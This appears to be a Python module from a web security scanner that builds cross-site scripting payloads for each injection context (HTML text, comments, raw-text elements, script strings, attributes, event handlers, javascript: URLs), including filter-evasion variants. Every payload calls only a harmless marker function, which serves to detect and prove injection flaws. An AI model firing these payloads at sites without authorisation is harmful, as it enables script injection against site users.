"""Payloads by the place that they are put into. Pure.

Each calls the function that the browser's protocol put into the page, with the number of the shot
and a digit that tells by which way it ran. ``needs`` is what must stand in the answer as it is, for
the payload to run at all: what the site encoded need not be opened in a browser.
"""

from __future__ import annotations

from dataclasses import dataclass
from functools import cache
from typing import TYPE_CHECKING, Final

from ringfence.prove.contexts import Context

if TYPE_CHECKING:
    from collections.abc import Iterator, Sequence

__all__ = ["ATTRIBUTE", "LINK", "MARKUP", "STRING", "Payload", "every_payload", "payloads_for"]

#: The last digit of what a payload calls with, as the stored ones have it.
LINK: Final = "1"
STRING: Final = "2"
ATTRIBUTE: Final = "3"
MARKUP: Final = "4"

#: Stands for the number in a payload.
_NUMBER: Final = "\N{WHITE CIRCLE}"


@dataclass(frozen=True, slots=True)
class Payload:
    """A payload: ``id`` names it, ``digit`` is its way; ``text`` and ``needs`` want a number."""

    id: str
    digit: str
    form: str
    form_of_needs: str

    def text(self, number: str) -> str:
        """Return what is sent."""
        return self.form.replace(_NUMBER, number)

    def needs(self, number: str) -> str:
        """Return what must stand in the answer."""
        return self.form_of_needs.replace(_NUMBER, number)


def _call(digit: str, form: str = "ringfence({})") -> str:
    return form.format(_NUMBER + digit)


#: Calls that filters of words and of brackets may leave alone.
_CALLS: Final = (
    "ringfence({})",
    "ringfence?.({})",
    "self.ringfence({})",
    "window['ringfence']({})",
    "(0,ringfence)({})",
    "[{}].map(ringfence)",
    "setTimeout(ringfence,0,{})",
)

#: Markup that runs by itself, or once it is pressed; ``@`` stands for the call.
_VECTORS: Final = (
    "<img src=x: onerror=@>",
    "<script>@</script>",
    "<svg onload=@>",
    "<svg/onload=@>",
    "<img/src=x:/onerror=@>",
    '<img src="x:" onerror="@">',
    "<img src='x:' onerror='@'>",
    "<iMg sRc=x: oNeRrOr=@>",
    "<ScRiPt>@</ScRiPt>",
    "<script\n>@</script\n>",
    "<svg><script>@</script></svg>",
    "<video src=x: onerror=@></video>",
    "<audio src=x: onerror=@></audio>",
    "<video><source src=x: onerror=@></video>",
    "<input autofocus onfocus=@>",
    "<textarea autofocus onfocus=@></textarea>",
    "<details open ontoggle=@><summary>x</summary></details>",
    "<style onload=@></style>",
    "<iframe onload=@></iframe>",
    "<iframe srcdoc='<script>parent.@</script>'></iframe>",
    "<object data=x: onerror=@></object>",
    "<link rel=stylesheet href=x: onerror=@>",
    "<body onload=@>",
    "<b onclick=@>x</b>",
    "<b onmouseover=@>x</b>",
    "<b tabindex=1 onfocus=@>x</b>",
    "<a href=javascript:@>x</a>",
    "<form><button formaction=javascript:@>x</button></form>",
    "<math><mi onclick=@>x</mi></math>",
    "<p onpointerover=@>x</p>",
)

#: What leaves a place for the text around it, by the kind of context, most likely first.
_LEAVES: Final = {
    "text": ("",),
    "comment": ("-->", "--!>", ">"),
    "rcdata": ("</title>", "</textarea>"),
    "rawtext": ("</noscript>", "</xmp>", "</iframe>", "</noframes>", "</noembed>"),
    "style": ("</style>", "}</style>"),
    "script": ("</script>", "</script >"),
    '"': ('">',),
    "'": ("'>",),
    "": (">", "x>"),
}

#: One text for all of these at once, tried first.
_COMBINED: Final = "'\"></title></textarea></style></script>--><img src=x: onerror=@>"
#: The same for an argument of a path, which holds no slash.
_COMBINED_SEGMENT: Final = "'\"><img src=x: onerror=@>"

_HANDLERS: Final = (
    "onclick",
    "onmouseover",
    "onpointerover",
    "onmouseenter",
    "onfocus",
    "onfocusin",
    "onmousemove",
    "autofocus onfocus",
    "tabindex=1 onfocus",
    "style=display:block onmouseover",
)


def _markup(kind: str) -> Iterator[Payload]:
    call = _call(MARKUP)
    if kind in ("text", '"'):
        for name, form in (("all", _COMBINED), ("segment", _COMBINED_SEGMENT)):
            text = form.replace("@", call)
            yield Payload(f"markup-{kind}-{name}", MARKUP, text, f"<img src=x: onerror={call}>")
    for number, leave in enumerate(_LEAVES[kind]):
        for vector in _VECTORS if number == 0 else _VECTORS[:2]:
            text = vector.replace("@", call)
            yield Payload(f"markup-{kind}-{number}-{vector}", MARKUP, leave + text, leave + text)
    for number, form in enumerate(_CALLS[1:]):
        text = _VECTORS[0].replace("@", _call(MARKUP, form))
        leave = _LEAVES[kind][0]
        yield Payload(f"markup-{kind}-call-{number}", MARKUP, leave + text, leave + text)


def _strings(quote: str) -> Iterator[Payload]:
    """Yield what leaves a string, a template literal or a comment of a script."""
    if quote == "`":
        forms: tuple[str, ...] = ("${@}", "`-@-`", "`;@//", "`+@+`", "${1,@}")
    elif quote == "//":
        forms = ("\n@//", "\r@//", "\u2028@//")
    elif quote == "/*":
        forms = ("*/@/*", "*/;@;/*", "*/@//")
    elif quote == "":
        forms = ("@", "1;@//", "0-@", "0,@", "[@]", "(@)", "\n@\n", "};@//", "]);@//", "x:@")
    else:
        forms = (
            f"{quote}-@-{quote}",
            f"{quote};@//",
            f"{quote}+@+{quote}",
            f"{quote}|@|{quote}",
            f"{quote}*@*{quote}",
            f"{quote},@,{quote}",
            f"{quote}in@in{quote}",
            f"{quote}&&@&&{quote}",
            f"{quote}||@||{quote}",
            f"{quote});@//",
            f"{quote}}});@//",
            f"{quote}\n@//",
            f"\\{quote};@//",
            f"\\{quote}-@//",
        )
    for form in forms:
        for number, call in enumerate(_CALLS if form == forms[0] else _CALLS[:1]):
            text = form.replace("@", _call(STRING, call))
            yield Payload(f"string-{quote or 'code'}-{form!r}-{number}", STRING, text, text)


def _handlers(quote: str) -> Iterator[Payload]:
    """Yield what leaves a string of a handler: the browser resolves its references first."""
    for other in ("'", '"', "`", ""):
        if other and other == quote:
            continue
        for payload in _strings(other):
            yield Payload(f"handler-{payload.id}", STRING, payload.form, "")
    for form in ("&apos;-@-&apos;", "&#39;-@-&#39;", "&quot;-@-&quot;", "&#x27;);@//"):
        text = form.replace("@", _call(STRING))
        yield Payload(f"handler-{form}", STRING, text, "")


def _attributes(quote: str) -> Iterator[Payload]:
    for handler in _HANDLERS:
        call = _call(ATTRIBUTE)
        text = f"{quote or 'x'} {handler}={call} x={quote}"
        needs = f"{quote} {handler}={call}"
        yield Payload(f"attribute-{quote}-{handler}", ATTRIBUTE, text, needs)
    for space in ("\t", "\n", "\f", "/"):
        text = f"{quote or 'x'}{space}onclick={_call(ATTRIBUTE)}{space}x={quote}"
        yield Payload(
            f"attribute-{quote}-{space!r}", ATTRIBUTE, text, f"onclick={_call(ATTRIBUTE)}"
        )


def _links() -> Iterator[Payload]:
    call = _call(LINK)
    for form in (
        "javascript:@//",
        "javascript:@",
        "JaVaScRiPt:@",
        " javascript:@",
        "\x01javascript:@",
        "java\tscript:@",
        "java\nscript:@",
        "javascript\t:@",
        "javascript:%20@",
        "javascript://%0a@",
        "javascript:/*/*/@",
        "javascript:'x';@",
        "javascript:void(@)",
        "javascript&colon;@",
        "javascript&#58;@",
    ):
        text = form.replace("@", call)
        yield Payload(f"link-{form!r}", LINK, text, "")


@cache
def _family(kind: str, quote: str) -> tuple[Payload, ...]:
    made: dict[str, Iterator[Payload]] = {
        "string": _strings(quote),
        "handler": _handlers(quote),
        "attribute": _attributes(quote),
        "link": _links(),
    }
    return tuple(made[kind] if kind in made else _markup(quote or kind))


def payloads_for(context: Context, digit: str) -> tuple[Payload, ...]:
    """Return what may run by the way of ``digit`` in that context, the likeliest first.

    Empty where nothing may: no string ends in text, no link begins in a comment.
    """
    kind, quote = context.kind, context.quote
    in_attribute = kind in ("attribute", "url", "handler", "css", "srcdoc")
    if digit == MARKUP:
        if in_attribute or kind in ("tag", "name"):
            return _markup_of_attribute(quote)
        return tuple(_markup_in(context))
    if digit == STRING:
        if kind == "script":
            return _family("string", quote)
        return _family("handler", quote) if kind == "handler" else ()
    if digit == ATTRIBUTE:
        if kind in ("tag", "name") or in_attribute:
            return _family("attribute", quote)
        return ()
    return _family("link", "") if kind == "url" else ()


@cache
def _markup_of_attribute(quote: str) -> tuple[Payload, ...]:
    return tuple(_markup(quote))


def _markup_in(context: Context) -> Sequence[Payload]:
    family = _markup_of_attribute(context.kind)
    if context.kind in ("rcdata", "rawtext"):
        # Only its own end leaves an element.
        return [p for p in family if p.form.startswith(f"</{context.name}")]
    return family


def every_payload() -> tuple[Payload, ...]:
    """Return every payload that there is, each once."""
    kinds = ("text", "comment", "rcdata", "rawtext", "style", "script", '"', "'", "")
    made = [payload for kind in kinds for payload in _markup(kind)]
    for quote in ("'", '"', "`", "", "//", "/*"):
        made += _strings(quote)
    for quote in ("'", '"', ""):
        made += [*_handlers(quote), *_attributes(quote)]
    made += _links()
    return tuple({payload.form: payload for payload in made}.values())
